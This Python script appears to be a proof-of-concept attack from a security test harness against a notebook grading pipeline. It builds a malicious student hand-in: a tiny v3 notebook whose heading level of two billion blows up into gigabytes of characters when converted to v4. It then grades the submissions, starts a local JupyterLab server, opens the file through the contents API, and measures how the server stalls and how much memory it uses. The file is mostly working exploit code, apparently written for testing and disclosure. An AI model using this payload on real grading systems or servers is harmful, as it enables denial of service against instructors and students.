"""nbformat v3's heading cell carries its level as a number, and the v3->v4 upgrade writes '#' * level: a 60-byte cell
becomes LEVEL characters in whatever process reads the notebook as v4. make grade's nbgrader child (2 GiB cap) and the
TA's Jupyter server opening the hand-in in submitted/ (contents API, as JupyterLab does when the TA double-clicks it)."""
from lib import *
import socket, secrets, signal, threading, urllib.request, nbformat
LEVEL = int(os.environ.get("LEVEL", str(2 * 10**9)))
d = course("a07")
nb3 = nbformat.convert(honest(), 3)
nb3.worksheets[0].cells.insert(1, {"cell_type": "heading", "level": LEVEL, "metadata": {}, "source": "x"})
put(d, "aaron", honest()); put(d, "mallory", None, raw=json.dumps(nb3)); put(d, "zoe", honest())
print("hand-in bytes", os.path.getsize(f"{d}/submitted/mallory/{A}/{A}.ipynb"))
grade(d); scores(d)
print(json.dumps([{k: o[k] for k in ("student", "status", "seconds", "reason")} for o in json.load(open(f"{d}/grading_report.json"))], indent=0))
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=dict(os.environ, PYTHONSAFEPATH="1", PYTHONPATH=CLONE), stdout=open("/tmp/attack37-root-a07-lab.log", "w"),
                       stderr=subprocess.STDOUT, start_new_session=True)
try:
    for _ in range(90):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    lat, peak = [], [0]; stop = threading.Event()
    def probe():
        while not stop.is_set():
            t = time.time()
            try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}", timeout=600).read()
            except Exception: pass
            lat.append(time.time() - t)
            try: peak[0] = max(peak[0], int(open(f"/proc/{lab.pid}/status").read().split("VmRSS:")[1].split()[0]))
            except Exception: pass
            time.sleep(0.3)
    th = threading.Thread(target=probe); th.start()
    t = time.time()
    try:
        r = urllib.request.urlopen(f"http://127.0.0.1:{port}/api/contents/submitted/mallory/{A}/{A}.ipynb?content=1&token={tok}", timeout=600)
        body = r.read(); print(f"contents API: {len(body):,} bytes in {time.time()-t:.1f} s")
    except Exception as e:
        print("contents API error", e, f"after {time.time()-t:.1f} s")
    stop.set(); th.join()
    print(f"TA server: /api/status worst latency {max(lat):.1f} s, peak RSS {peak[0]/2**20:.2f} GiB, alive={lab.poll() is None}")
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
